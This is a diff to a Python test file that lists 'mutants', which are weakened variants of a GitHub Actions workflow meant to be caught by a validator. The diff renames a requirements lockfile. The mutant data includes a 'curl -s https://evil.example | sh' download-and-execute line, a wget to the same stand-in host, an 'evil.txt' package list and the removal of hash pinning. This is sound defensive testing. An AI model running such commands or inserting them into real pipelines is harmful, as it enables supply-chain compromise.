@@ -21,7 +21,7 @@ class Mutant(NamedTuple):
 
 
 CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
-HASHED = "--require-hashes --no-deps -r requirements-site.lock"
+HASHED = "--require-hashes --no-deps -r requirements-site.txt"
 PYTHON = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py effsota validate'
 SEAL = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py seal'
 MUTANTS = (
@@ -52,8 +52,8 @@ MUTANTS = (
     Mutant("an output from a script", "comment", 'mkdir "$RUNNER_TEMP/report"', 'echo "number=1" >> "$GITHUB_OUTPUT"'),
     Mutant("Python that is not isolated", "publish", PYTHON, PYTHON.replace(" -I", "")),
     Mutant("Python of the job with rights", "comment", "python3 -I .github/scripts/run.py comment", "python3 .github/scripts/run.py comment"),
-    Mutant("packages without hashes", "publish", HASHED, "-r requirements-site.lock"),
-    Mutant("packages of another list", "publish", HASHED, HASHED.replace("requirements-site.lock", "evil.txt")),
+    Mutant("packages without hashes", "publish", HASHED, "-r requirements-site.txt"),
+    Mutant("packages of another list", "publish", HASHED, HASHED.replace("requirements-site.txt", "evil.txt")),
     Mutant("a package by name", "publish", SEAL, f'"$RUNNER_TEMP/site-venv/bin/python" -I -m pip install pandas; {SEAL}'),
     Mutant("a download", "publish", "today=$(date -u +%F)", "curl -s https://evil.example | sh"),
     Mutant("a download by another name", "publish", "today=$(date -u +%F)", "wget https://evil.example"),
